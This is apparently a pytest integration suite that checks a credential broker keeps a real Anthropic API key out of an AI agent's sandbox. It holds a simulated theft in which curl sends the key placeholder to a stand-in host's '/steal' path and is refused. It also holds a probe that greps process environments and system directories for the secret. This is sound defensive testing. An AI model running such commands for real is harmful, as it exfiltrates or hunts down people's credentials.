"""The credential broker, proven from inside real sandboxes on Docker and rootless Podman (issue [2.2] part 4).

The sandbox is in its default allowlist network: its only way out is the egress proxy, and Claude Code talks to
its real host, https://api.anthropic.com, through it. The user's settings send the agent's requests to a local
stand-in for Anthropic's API (agents.claude.upstream), as a team would send them to an LLM gateway. The
stand-in must see the real key; the sandbox must never: not in its environment, any process's environ, a file
it can read, the engine's inspect output, the ansible-runner artifacts or any log.
"""

from __future__ import annotations

import json
import shlex
import socket
import uuid

import pytest

from tests.integration.conftest import new_sandbox
from tests.integration.test_agents import host_address
from tests.standins.anthropic_api import serve

DECLARED_HOST = "api.example.test"


def user_settings(upstream: str) -> str:
    """The user's settings of these sandboxes: the agent's upstream, and one declared credential."""
    return (f"agents:\n  claude:\n    upstream: {upstream}\n"
            f"credentials:\n  - variable: AISHELL_TEST_TOKEN\n    hosts: [{DECLARED_HOST}]\n")


@pytest.fixture(scope="module")
def anthropic(tmp_path_factory):
    log = tmp_path_factory.mktemp("anthropic") / "requests.jsonl"
    server, _ = serve("0.0.0.0", 0, str(log))
    yield f"http://{host_address()}:{server.server_address[1]}", log
    server.shutdown()


@pytest.fixture(scope="module", params=["docker", "rootless-podman"])
def box(request, tmp_path_factory, anthropic):
    """One project per engine for this module (its first launch is cold, the others warm)."""
    sandbox = new_sandbox(request.param, tmp_path_factory.mktemp(request.param))
    sandbox.real_key = f"sk-ant-api03-{uuid.uuid4().hex}{uuid.uuid4().hex}"
    sandbox.env = {"ANTHROPIC_API_KEY": sandbox.real_key, "AISHELL_TEST_TOKEN": f"tok-{uuid.uuid4().hex}"}
    sandbox.configure(f"network:\n  allow: [{DECLARED_HOST}]\n")
    sandbox.configure_user(user_settings(anthropic[0]))
    yield sandbox
    sandbox.remove()


def test_claude_does_its_task_through_the_broker_and_the_sandbox_never_holds_the_key(box, anthropic):
    real = box.real_key
    target = box.root / "brokered.txt"
    evidence = box.root / "evidence"
    task = f"aishell-standin: write {target} hi through the broker"
    # After the agent's task, the sandbox looks for the key everywhere it can read. The probe gets the value
    # on its standard input only (a pipe, nothing it could have found), and lists what holds it.
    probe = (f"claude -p {shlex.quote(task)} </dev/null > {evidence}.claude 2>&1; echo $? > {evidence}.status; "
             f"printenv ANTHROPIC_API_KEY > {evidence}.placeholder; "
             f"read -r real; printf %s \"$real\" > /dev/shm/needle; "
             f"grep -rlsF -f /dev/shm/needle /proc/[0-9]*/environ /etc /home /tmp /run /var /root {box.root} "
             f"--exclude-dir={box.root}/.git | grep -v '^/dev/shm' > {evidence}.found; rm -f /dev/shm/needle; true")
    box.shell(f"printf '%s\\n' {shlex.quote(real)} > {box.root}.needle")  # beside the project, not in it
    run = box.aishell(f"exec -- bash -c {shlex.quote(probe)} < {box.root}.needle")
    box.shell(f"rm -f {box.root}.needle")
    assert run.returncode == 0, run.stdout + run.stderr
    assert box.shell(f"cat {evidence}.status").stdout.strip() == "0", box.shell(f"cat {evidence}.claude").stdout
    assert box.shell(f"cat {target}").stdout == "hi through the broker\n"
    assert box.shell(f"stat -c %u {target}").stdout == box.shell("id -u").stdout
    # What the sandbox held: a placeholder of the key's length and form, not the key.
    placeholder = box.shell(f"cat {evidence}.placeholder").stdout.strip()
    assert placeholder != real and len(placeholder) == len(real) and placeholder.startswith("sk-ant-api03-")
    found = box.shell(f"cat {evidence}.found").stdout.split()
    assert found == [], f"the sandbox could read the real key in: {found}"
    # The stand-in, reached through the broker as the agent's upstream, got the real key on every call.
    calls = [json.loads(line) for line in anthropic[1].read_text().splitlines()]
    mine = [c for c in calls if c["headers"].get("x-api-key") in (real, placeholder)]
    # The tool call and the answer after it (Claude Code also asks its real host for its policy limits).
    assert [c["path"].split("?")[0] for c in mine].count("/v1/messages") >= 2, mine
    assert all(c["headers"]["x-api-key"] == real for c in mine), "a placeholder reached the provider"
    # Nothing the host keeps of the session holds it: the engine's record of its containers, the proxy's and
    # the broker's logs, aishell-run's state (the ansible-runner artifacts, launch specs, the broker's
    # session entries, which go with the session).
    uid = box.shell("id -u").stdout.strip()
    engine = box.engine
    records = box.shell(f"{engine} ps -aq | xargs -r {engine} inspect; {engine} logs aishell-egress-{uid} 2>&1; "
                        f"{engine} logs aishell-broker-{uid} 2>&1").stdout
    assert real not in records
    state = box.shell("echo ${XDG_STATE_HOME:-$HOME/.local/state}/aishell ${XDG_DATA_HOME:-$HOME/.local/share}"
                      "/aishell").stdout.split()
    held = box.shell(f"grep -rlsF {shlex.quote(real)} {' '.join(state)}", check=False).stdout.split()
    assert held == [], f"aishell-run's state keeps the key in {held}"


def test_a_placeholder_sent_to_another_credentials_host_is_refused_and_logged(box):
    # The declared credential makes DECLARED_HOST a brokered host of the session; the Anthropic key's
    # placeholder sent there is refused by the broker before any connection is made.
    request = (f"curl -sS -o /dev/stderr -w '%{{http_code}}' -H \"x-api-key: $ANTHROPIC_API_KEY\" "
               f"https://{DECLARED_HOST}/steal")
    run = box.run(request)
    assert run.stdout.strip() == "403", run.stdout + run.stderr
    assert "credential_not_for_host" in run.stderr
    logs = box.aishell("logs --network --json")
    assert logs.returncode == 0, logs.stderr
    reasons = [(row["destination"], row["reason"]) for row in json.loads(logs.stdout)]
    assert (f"{DECLARED_HOST}:443", "credential_not_for_host:ANTHROPIC_API_KEY") in reasons, reasons


def test_a_declared_credential_is_a_placeholder_inside(box):
    run = box.run("printenv AISHELL_TEST_TOKEN")
    assert run.returncode == 0, run.stderr
    seen = run.stdout.strip()
    assert seen and seen != box.env["AISHELL_TEST_TOKEN"] and len(seen) == len(box.env["AISHELL_TEST_TOKEN"])


def test_the_broker_runs_without_privileges_beside_the_proxy(box):
    uid = box.shell("id -u").stdout.strip()
    shown = box.shell(f"{box.engine} inspect --format '{{{{.HostConfig.ReadonlyRootfs}}}} "
                      f"{{{{.HostConfig.NetworkMode}}}}' aishell-broker-{uid}").stdout
    read_only, network = shown.split()
    assert read_only == "true" and network.startswith("container:"), shown
    # Its process holds no capability at all (the engines list dropped ones differently; the kernel does not).
    status = box.shell(f"{box.engine} exec aishell-broker-{uid} grep -E '^Cap(Eff|Prm)' /proc/1/status").stdout
    assert status.split() == ["CapPrm:", "0" * 16, "CapEff:", "0" * 16], status
    # The CA's private key and the sessions' credentials: the user's alone on the host (sandboxes mount only
    # the broker's public/ directory's trust store).
    modes = box.shell("cd ${XDG_STATE_HOME:-$HOME/.local/state}/aishell/broker && stat -c '%n %a' ca sessions "
                      "ca/mitmproxy-ca.pem").stdout.split()
    assert modes == ["ca", "700", "sessions", "700", "ca/mitmproxy-ca.pem", "600"], modes


def test_an_upstream_that_does_not_answer_stops_the_launch_with_its_setting_named(box, anthropic):
    with socket.socket() as probe:  # a port nothing listens on, once closed
        probe.bind(("0.0.0.0", 0))
        closed = probe.getsockname()[1]
    box.configure_user(user_settings(f"http://{host_address()}:{closed}"))
    try:
        run = box.aishell("exec -- true")
    finally:
        box.configure_user(user_settings(anthropic[0]))
    assert run.returncode == 2, run.stdout + run.stderr
    assert "agents.claude.upstream" in run.stderr and f":{closed} does not answer" in run.stderr
    assert "Traceback" not in run.stderr
    leftovers = box.shell(f"{box.engine} ps -aq --filter label=org.aishell.project={box.root}", check=False)
    assert leftovers.stdout.strip() == ""


def test_an_agent_with_no_credential_is_named_with_the_variable_before_anything_starts(box):
    saved = dict(box.env)
    box.env = {}  # no key on the host, and the profile of this sandbox's user holds no login of its own
    try:
        run = box.aishell("claude </dev/null")
    finally:
        box.env = saved
    assert run.returncode == 2, run.stdout + run.stderr
    assert "Claude Code has no credential" in run.stderr and "ANTHROPIC_API_KEY" in run.stderr
    assert "Traceback" not in run.stderr
    leftovers = box.shell(f"{box.engine} ps -aq --filter label=org.aishell.project={box.root}", check=False)
    assert leftovers.stdout.strip() == ""
